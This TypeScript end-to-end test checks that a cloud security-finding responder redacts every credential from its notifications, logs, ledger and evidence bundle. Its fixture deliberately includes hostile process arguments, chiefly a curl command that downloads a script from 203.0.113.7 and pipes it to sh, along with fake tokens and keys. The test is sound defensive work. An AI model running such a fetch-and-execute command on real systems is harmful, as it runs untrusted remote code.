// No credential leaves the finding, end to end on real parts: the
// functions-framework server (its own bin, on src/index.ts) gets a hostile
// finding pushed by a Pub/Sub emulator subscription, claims it in the Firestore
// emulator, labels the pod and runs `ps axjf` on the strict Kubernetes fake,
// keeps an evidence bundle in a Cloud Storage fake, and reports to the ops topic,
// Slack and Google Chat. The finding's parent and child args carry every
// credential form redaction knows, and so does the fake's `ps` output; none of
// them may appear in a sink payload, a log line, a ledger document or the bundle.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Summary } from '../src/core/summary/document.ts';
import { startFakeKubeApi, type FakeKubeApi } from './fakes/kube-api-server.ts';
import { startFakeLogging, type FakeLogging } from './fakes/logging-grpc-server.ts';
import { startFakeStorage, type FakeStorage } from './fakes/storage-json-server.ts';
import { emulatorOrSkip, startFirestoreEmulator, startPubsubEmulator } from './support/emulators.ts';
import { startFunctionServer, type FunctionServer } from './support/function-server.ts';
import { notificationV1 } from './support/fixtures.ts';
import { CLUSTER, seed } from './support/kube-seed.ts';
import { pubsubRest, type PulledMessage } from './support/pubsub-rest.ts';
import { startWebhookRecorder, type WebhookRecorder } from './support/webhook-recorder.ts';
import { noteSummary } from './support/summary-check.ts';

const PROJECT = 'test-project';
const COLLECTION = 'redaction-e2e';
const BUCKET = 'evidence-e2e';

// Every secret is a unique marker, so "not in the payload" can only mean "redacted".
const S = {
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJlMmUifQ.e2eJwtSignature0001',
  cookie: 'CookieE2E0001',
  urlPass: 'UrlPassE2E0001',
  mysql: 'MysqlE2E0001',
  aws: 'AwsSecretE2E0001',
  nextArg: 'NextArgE2E0001',
  tokenEq: 'TokenEqE2E0001',
  apiKey: 'ApiKeyE2E0001',
  akia: 'AKIAE2E0000EXAMPLE01',
  github: 'ghp_E2Eabcdefghijklmnopqrstuvwxyz0001',
  slack: 'xoxb-0001-e2e-abcdefghij',
  stripe: 'sk_live_E2Eabcdefghij0001',
  dbPass: 'DbPassE2E0001',
  apiKeyArg: 'ApiKeyArgE2E0001',
  keyBody: 'MIIEvKeyBodyE2E0001',
  psPass: 'PsPassE2E0001',
  psMysql: 'PsMysqlE2E0001',
  psBearer: 'PsBearerE2E0001',
  psUrl: 'PsUrlE2E0001',
  psKey: 'AKIAE2E0000EXAMPLE02',
  podArg: 'PodArgE2E0001',
  lastApplied: 'LastAppliedE2E0001',
  envValue: 'sk_live_EXAMPLEDONOTUSE0000000000', // the fixture's STRIPE_API_KEY value
};
// Names and flags this test's policy adds to the built-in rules.
const POLICY_SECRETS = { signing: 'SigningE2E0001', seal: 'SealE2E0001' };

function hostileNotification(): Record<string, any> {
  const n = structuredClone(notificationV1());
  const child = n.finding.processes[0];
  child.args = [
    '/bin/sh',
    '-c',
    `curl -s -H "Authorization: Bearer ${S.jwt}" -H "Cookie: session=${S.cookie}" https://deploy:${S.urlPass}@203.0.113.7/x.sh | sh; ` +
      `mysql -uroot -p${S.mysql} orders; AWS_SECRET_ACCESS_KEY=${S.aws} aws s3 ls`,
    '--password',
    S.nextArg,
    `--token=${S.tokenEq}`,
    `X-Api-Key: ${S.apiKey}`,
    S.akia,
    S.github,
    S.slack,
    S.stripe,
  ];
  const parent = n.finding.processes[1];
  parent.args = [
    'node',
    '/app/server.js',
    `--db-password=${S.dbPass}`,
    '--api-key',
    S.apiKeyArg,
    `MY_SIGNING_VALUE=${POLICY_SECRETS.signing}`,
    '--seal',
    POLICY_SECRETS.seal,
    `-----BEGIN PRIVATE KEY-----\n${S.keyBody}\n-----END PRIVATE KEY-----`,
  ];
  return n;
}

const PS_OUTPUT = [
  ' PPID   PID COMMAND',
  `    0     1 node /app/server.js --password=${S.psPass}`,
  `    1    42  \\_ mysql -uroot -p${S.psMysql} orders`,
  `    1    43  \\_ curl -H Authorization: Bearer ${S.psBearer} https://u:${S.psUrl}@203.0.113.7/x.sh`,
  `    1    44  \\_ env AWS_ACCESS_KEY_ID=${S.psKey}`,
  '',
].join('\n');

const [firestoreEmu, pubsubEmu] = await Promise.all([
  emulatorOrSkip(() => startFirestoreEmulator(), 'redaction end-to-end test (Firestore emulator)'),
  emulatorOrSkip(() => startPubsubEmulator({ project: PROJECT }), 'redaction end-to-end test (Pub/Sub emulator)'),
]);
const d = firestoreEmu && pubsubEmu ? describe : describe.skip;

let fn: FunctionServer | undefined;
let kube: FakeKubeApi;
let logging: FakeLogging;
let storage: FakeStorage;
let webhooks: WebhookRecorder;
let workDir: string;
const until: FunctionServer['until'] = (what, probe, timeoutMs = 60_000) => fn!.until(what, probe, timeoutMs);

/** The ledger's documents, read through the Firestore emulator's REST API (as the owner, past any rules). */
async function ledgerDocuments(): Promise<Record<string, any>[]> {
  const url = `http://${firestoreEmu!.hostPort}/v1/projects/${PROJECT}/databases/(default)/documents/${COLLECTION}?pageSize=300`;
  const res = await fetch(url, { headers: { authorization: 'Bearer owner' } });
  if (!res.ok) throw new Error(`firestore emulator: HTTP ${res.status} ${await res.text()}`);
  return ((await res.json()) as { documents?: Record<string, any>[] }).documents ?? [];
}

beforeAll(async () => {
  if (!firestoreEmu || !pubsubEmu) return;
  const clusterSeed = seed();
  const pod = clusterSeed.pods![0]!; // the finding's pod
  pod.metadata.annotations = {
    'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({
      spec: { containers: [{ name: 'checkout', env: [{ name: 'DB_PASSWORD', value: S.lastApplied }] }] },
    }),
  };
  pod.spec.containers[0].args = [`--root-password=${S.podArg}`];
  kube = await startFakeKubeApi({ seed: clusterSeed });
  kube.state.exec = () => ({ stdout: PS_OUTPUT });
  logging = await startFakeLogging({ entries: [] });
  storage = await startFakeStorage({ buckets: [BUCKET] });
  webhooks = await startWebhookRecorder();
  workDir = mkdtempSync(join(tmpdir(), 'scc-redaction-e2e-'));
  const policyFile = join(workDir, 'policy.yaml');
  writeFileSync(
    policyFile,
    [
      'dryRun: false',
      'rules:',
      '  - {name: contain, match: {namespaces: [payments]}, actions: [label-pod, capture-process-list]}',
      'clusters:',
      `  "${CLUSTER}": {kubeconfig: ${JSON.stringify(kube.kubeconfigPath)}, context: fake}`,
      'summary: {maxArgLength: 2048}   # long enough that no secret is lost to the cut instead of redaction',
      'redaction: {secretNames: [signing], secretFlags: [--seal]}',
    ].join('\n'),
  );
  const home = mkdtempSync(join(workDir, 'home-'));

  fn = await startFunctionServer({
    HOME: home, // no gcloud credentials, no ADC
    METADATA_SERVER_DETECTION: 'none',
    GOOGLE_CLOUD_PROJECT: PROJECT,
    PUBSUB_EMULATOR_HOST: pubsubEmu.hostPort,
    FIRESTORE_EMULATOR_HOST: firestoreEmu.hostPort,
    FIRESTORE_DATABASE: '(default)',
    LEDGER_COLLECTION: COLLECTION,
    OPS_TOPIC: `projects/${PROJECT}/topics/scc-ops`,
    SLACK_WEBHOOK_URL: webhooks.url('/slack/redaction'),
    CHAT_WEBHOOK_URL: webhooks.url('/chat/redaction'),
    SCC_RESPONDER_POLICY_FILE: policyFile,
    SCC_RESPONDER_EVIDENCE: 'on',
    LOGGING_API_ENDPOINT: logging.endpoint,
    EVIDENCE_BUCKET: BUCKET,
    STORAGE_API_ENDPOINT: storage.endpoint,
    LOG_LEVEL: 'DEBUG', // every log line the function writes is checked
  });

  const rest = pubsubRest(pubsubEmu.hostPort, PROJECT);
  await rest.createTopic('scc-findings');
  await rest.createTopic('scc-ops');
  await rest.createPullSubscription('ops-pull', 'scc-ops');
  await rest.createPushSubscription('findings-push', 'scc-findings', fn.pushUrl(PROJECT, 'scc-findings'));
}, 120_000);

afterAll(async () => {
  fn?.stop();
  await Promise.all([kube?.close(), logging?.close(), storage?.close(), webhooks?.close()]);
  if (workDir) rmSync(workDir, { recursive: true, force: true });
  await Promise.all([firestoreEmu?.stop(), pubsubEmu?.stop()]);
});

d('no credential leaves the finding (functions-framework + emulators + Kubernetes fake)', () => {
  it('not in the ops topic, Slack, Chat, the log lines, the ledger or the bundle', async () => {
    const rest = pubsubRest(pubsubEmu!.hostPort, PROJECT);
    await rest.publish('scc-findings', hostileNotification());
    const pulled: PulledMessage[] = [];
    await until('the ops summary', async () => {
      pulled.push(...(await rest.pullAll('ops-pull')));
      return pulled.length > 0 ? true : undefined;
    });
    const slack = await until('the Slack post', () => (webhooks.posts('/slack/redaction').length > 0 ? webhooks.posts('/slack/redaction') : undefined));
    const chat = await until('the Chat post', () => (webhooks.posts('/chat/redaction').length > 0 ? webhooks.posts('/chat/redaction') : undefined));
    await until('the finding completed in the ledger', async () =>
      (await ledgerDocuments()).some((doc) => doc.fields?.state?.stringValue === 'completed') ? true : undefined,
    );
    const ledger = await ledgerDocuments();
    const bundle = [...storage.objects.values()].map((o) => ({ name: o.name, text: o.bytes.toString('utf8') }));

    // What happened, so that "no secret anywhere" is not true of empty payloads.
    expect(pulled).toHaveLength(1);
    const summary = noteSummary(JSON.parse(pulled[0]!.data) as Summary, 'ops topic message');
    expect(summary.actions.map((a) => `${a.type}:${a.status}`)).toEqual(['label-pod:done', 'capture-process-list:done']);
    expect(summary.processes.child?.args[2]).toContain('Authorization: Bearer <redacted>');
    expect(summary.processes.child?.args[2]).toContain('https://deploy:<redacted>@203.0.113.7/x.sh | sh');
    expect(summary.processes.child?.args[2]).toContain('mysql -uroot -p<redacted> orders');
    expect(summary.processes.parent?.args).toContain('--db-password=<redacted>');
    expect(summary.processes.parent?.args).toContain('MY_SIGNING_VALUE=<redacted>');
    expect(summary.actions[1]?.details?.processList).toContain('mysql -uroot -p<redacted> orders');
    expect(slack[0]!.body).toContain('--db-password=&lt;redacted&gt;');
    expect(chat[0]!.body).toContain('--db-password=&lt;redacted&gt;');
    expect(fn!.lines.filter((l) => l.step === 'summary')).toHaveLength(1);
    expect(ledger.length).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(ledger)).toContain('mysql -uroot -p<redacted> orders'); // the process list, recorded redacted
    const names = bundle.map((o) => o.name.replace(/^incidents\/[^/]+\//, '')).sort();
    expect(names).toEqual(expect.arrayContaining(['finding.json', 'plan.json', 'snapshots/pod.json', 'manifest.json']));
    const podSnapshot = bundle.find((o) => o.name.endsWith('snapshots/pod.json'))!.text;
    expect(podSnapshot).toContain('"kubectl.kubernetes.io/last-applied-configuration": "<redacted>"');
    expect(podSnapshot).toContain('--root-password=<redacted>');

    const outputs: Record<string, string> = {
      'ops topic': JSON.stringify(pulled),
      slack: JSON.stringify(slack.map((p) => p.body)),
      chat: JSON.stringify(chat.map((p) => p.body)),
      'function log lines and stderr': JSON.stringify(fn!.lines),
      ledger: JSON.stringify(ledger),
    };
    const leaks: string[] = [];
    for (const [where, text] of Object.entries(outputs)) {
      for (const secret of [...Object.values(S), ...Object.values(POLICY_SECRETS)]) if (text.includes(secret)) leaks.push(`${where}: ${secret}`);
    }
    // The bundle too, the policy's own names and flags included (keepRawArgsInBundle is off).
    for (const object of bundle) {
      for (const secret of [...Object.values(S), ...Object.values(POLICY_SECRETS)]) if (object.text.includes(secret)) leaks.push(`bundle ${object.name}: ${secret}`);
    }
    expect(leaks).toEqual([]);
  }, 120_000);
});
